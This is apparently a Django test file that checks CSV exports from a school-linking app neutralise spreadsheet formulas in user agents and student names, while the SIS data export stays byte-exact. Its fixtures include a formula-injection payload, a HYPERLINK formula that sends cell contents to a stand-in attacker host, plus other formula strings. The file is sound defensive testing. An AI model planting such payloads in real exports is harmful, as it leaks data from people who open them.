"""CSV files staff open in a spreadsheet never carry a live formula (finding 3).

A signed-out visitor's User-Agent landed raw in the audit-trail export and
a student's name in the course pairing-code CSV. Cells starting with = + -
@ tab or CR are now written with a leading apostrophe (shown as text);
the database keeps what was sent. The SIS export is a data file that must
re-import exactly, so it is written unchanged, and a name that looks like
a formula round-trips as it is (docs/security.md).
"""

import csv
import io

from django.test import Client

from linking.models import AuditAction, AuditEvent, EnrollmentType, Login, User
from linking.services import accounts as account_services
from linking.services.context import Actor
from linking.services.enrollments import enroll_user
from linking.services.sis import import_sis
from linking.services.sis.exporter import export_to_directory
from tests.security.conftest import HOST_A

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _is_live_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def _staff_client(schools):
    client = Client(HTTP_HOST=HOST_A)
    client.force_login(schools["a"]["admin"], backend="linking.auth_backends.LoginBackend")
    return client


def test_a_visitors_user_agent_is_text_in_the_audit_export(schools):
    school = schools["a"]["school"]
    school.self_registration = "observer"
    school.save()
    visitor = Client(HTTP_HOST=HOST_A, HTTP_USER_AGENT=HYPERLINK)
    form = {
        "name": "Visitor",
        "email": "visitor@example.org",
        "password1": "a long test password",
        "password2": "a long test password",
        "codes": "ZZZZ-ZZZZ",
    }
    assert visitor.post("/signup/", form).status_code == 200
    event = AuditEvent.objects.get(action=AuditAction.CODE_FAILED)
    assert event.user_agent == HYPERLINK  # stored as sent

    response = _staff_client(schools).post(
        "/admin/linking/auditevent/",
        {"action": "export_csv", "_selected_action": [event.pk]},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["user_agent"] == "'" + HYPERLINK
    assert not any(_is_live_formula(cell) for row in rows for cell in row)


def test_student_names_are_text_in_the_course_pairing_code_csv(schools):
    school = schools["a"]["school"]
    students = []
    for n, formula in enumerate(FORMULAS):
        student = account_services.create_user_with_login(
            name=f"{formula} {formula}", root_account=school, unique_id=f"f{n}@a.test"
        )
        student.sortable_name = f"{formula}, {formula}"
        student.save()
        enroll_user(user=student, course=school.course, type=EnrollmentType.STUDENT)
        students.append(student)

    response = _staff_client(schools).post(
        "/admin/linking/pairingcode/issue/", {"course": school.course.pk, "output": "csv"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))

    def shown(text):
        return "'" + text if _is_live_formula(text) else text

    names = sorted((row[0], row[1]) for row in rows[1:])
    expected = [(shown(s.last_name), shown(s.first_name)) for s in students]
    assert names == sorted([*expected, (schools["a"]["student"].last_name, "Student")])
    assert all(row[3].startswith('="') and row[3].endswith('"') for row in rows[1:])
    cells = [cell for row in rows[1:] for index, cell in enumerate(row) if index != 3]
    assert not any(_is_live_formula(cell) for cell in cells)
    assert User.objects.filter(name=f"{HYPERLINK} {HYPERLINK}").exists()  # unchanged


def test_the_sis_export_keeps_formula_like_names_exactly(schools, other_root_account, tmp_path):
    school = schools["a"]["school"]
    person = account_services.create_user_with_login(
        name=HYPERLINK, root_account=school, unique_id="formula@a.test"
    )
    Login.objects.filter(user=person).update(sis_user_id="=1+1")

    export_to_directory(root_account=school, directory=tmp_path)
    with (tmp_path / "users.csv").open(newline="") as exported:
        row = next(r for r in csv.DictReader(exported) if r["user_id"] == "=1+1")
    assert row["full_name"] == HYPERLINK  # unchanged: a data file, not a spreadsheet

    report = import_sis(paths=[tmp_path], root_account=other_root_account, actor=Actor.system())
    assert not report.failed
    copy = Login.objects.get(root_account=other_root_account, sis_user_id="=1+1")
    assert copy.user.name == HYPERLINK
    assert copy.unique_id == "formula@a.test"
